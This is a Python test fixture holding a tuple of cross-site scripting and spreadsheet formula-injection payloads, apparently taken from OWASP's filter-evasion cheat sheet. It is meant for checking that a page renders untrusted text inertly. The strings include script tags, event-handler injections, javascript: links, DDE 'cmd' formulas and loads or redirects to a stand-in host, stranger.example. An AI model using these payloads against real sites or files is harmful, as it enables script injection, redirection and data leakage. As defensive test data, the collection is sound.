"""Texts that try to run in a page: one of each class of OWASP's XSS Filter Evasion Cheat Sheet, read 11/2026.

Each sets `window.hacked`, asks a stranger's host, or makes an element of its own (`.hacked`), if anything of it is
taken for markup. The first four are formulas to a table's program.
"""

from __future__ import annotations

RUN = "window.hacked=1"

PAYLOADS = (
    f'=HYPERLINK("http://stranger.example/","{RUN}")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</ScRiPt >",
    '<script src="http://stranger.example/x.js"></script>',
    f'<img class=hacked src=x onerror="{RUN}">',
    f"<img class=hacked src=x onerror={RUN}//",
    f'<img class=hacked """><script>{RUN}</script>">',
    f"<svg class=hacked onload={RUN}>",
    f"<svg><animate class=hacked onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f'<a class=hacked href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f"[x](javascript:{RUN}) ![x](http://stranger.example/x.png)",
    f'<iframe class=hacked src="javascript:parent.{RUN}"></iframe>',
    f"<iframe class=hacked srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<details class=hacked open ontoggle={RUN}>",
    f"<input class=hacked autofocus onfocus={RUN}>",
    f"<body class=hacked onload={RUN}>",
    "<style class=hacked>@import 'http://stranger.example/x.css';*{display:none!important}</style>",
    '<link class=hacked rel=stylesheet href="http://stranger.example/x.css">',
    '<meta class=hacked http-equiv=refresh content="0;url=http://stranger.example/">',
    '<base class=hacked href="http://stranger.example/">',
    '<form class=hacked action="http://stranger.example/"><button>x</button></form>',
    f'"><script>{RUN}</script>',
    f"'><img class=hacked src=x onerror={RUN}>",
    f"</title></style></textarea></script><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img class=hacked src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"${{{RUN}}} {{{{{RUN}}}}} #{{{RUN}}} <%={RUN}%>",
    f"';{RUN};//\";{RUN};//`${{{RUN}}}`",
    f"<x-hacked class=hacked onpointerenter={RUN} style=position:fixed;inset:0>",
    ":material/home: $x^2$ `code` **bold** ~~no~~ | a | b |",
)  # fmt: skip
